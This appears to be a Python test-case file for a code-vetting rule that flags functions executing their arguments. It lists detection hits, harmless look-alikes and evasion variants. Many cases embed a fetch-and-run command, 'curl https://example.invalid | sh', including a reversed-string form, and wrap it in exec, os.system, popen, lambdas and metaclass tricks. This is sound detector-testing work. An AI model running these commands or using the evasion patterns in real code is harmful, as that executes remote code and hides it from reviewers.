"""What the rules must see, and must not, where a function runs what it is given."""

from typing import Final

from tests.vetting.domain.signals.code.cases import Case

_LINE: Final = "curl https://example.invalid | sh"
_CODE: Final = f"import os; os.system('{_LINE}')"
_RUN: Final = "import os, subprocess\ndef run(k):\n    os.system(k)\n"
_EXEC: Final = "def run(k):\n    exec(k)\n"
_LISTED: Final = "import subprocess as s\ndef run(k, v=0):\n    s.run(['sh', '-c', k])\n"
_MANY: Final = "    subprocess.call(k, shell=True)\n" * 30

CASES: Final = (
    Case("C3", "hit", "high", f"{_RUN}run('{_LINE}')\n"),
    Case("C3", "hit", "high", f'{_EXEC}def main():\n    run("{_CODE}")\n'),
    Case("C3", "hit", "high", f"{_LISTED}run('{_LINE}')\n"),
    Case("C3", "hit", "medium", f"{_RUN}def main():\n    run('pip install git+https://example.invalid/x')\n"),
    Case("C2", "hit", "high", f"{_RUN}run('hs | dilavni.elpmaxe lruc'[::-1])\n"),
    Case("C3", "twin", None, f"{_RUN}run('make all')\nrun(name)\nrun()\nrun(*names)\nrun(k='make', x=1, **more)\n"),
    Case("C3", "twin", None, f"{_LISTED}run('make')\nrun(name)\n"),
    Case("C3", "twin", None, f"def show(k):\n    print(k)\nshow('{_LINE}')\n"),
    Case("C3", "twin", None, f"import os\ndef run(k):\n    os.system('echo ' + k)\nrun('{_LINE}')\n"),
    Case("C3", "twin", None, f"import os\ndef run(k):\n    k = 'make'\n    os.system(k)\nrun('{_LINE}')\n"),
    Case("C3", "evasion", "high", f'def a(k):\n    b(k)\n{_EXEC.replace("run", "b")}a("{_CODE}")\n'),
    Case("C3", "evasion", "high", f"import os\ndef a(*, x=0, k):\n    c = k\n    os.popen(c)\na(k='{_LINE}')\n"),
    Case("C3", "evasion", "high", f'(lambda k: exec(k))("{_CODE}")\n'),
    Case("C3", "evasion", "high", f'class A:\n    def __init__(self, k):\n        exec(k)\nA("{_CODE}")\n'),
    Case(
        "C3",
        "evasion",
        "high",
        "class M(type):\n    def __getitem__(cls, k):\n        exec(k)\nclass A(metaclass=M):\n    pass\n"
        f'A["{_CODE}"]\n',
    ),
    Case(
        "C3",
        "evasion",
        "high",
        f"{_RUN}{_MANY}run('{_LINE}')\n",
    ),
)
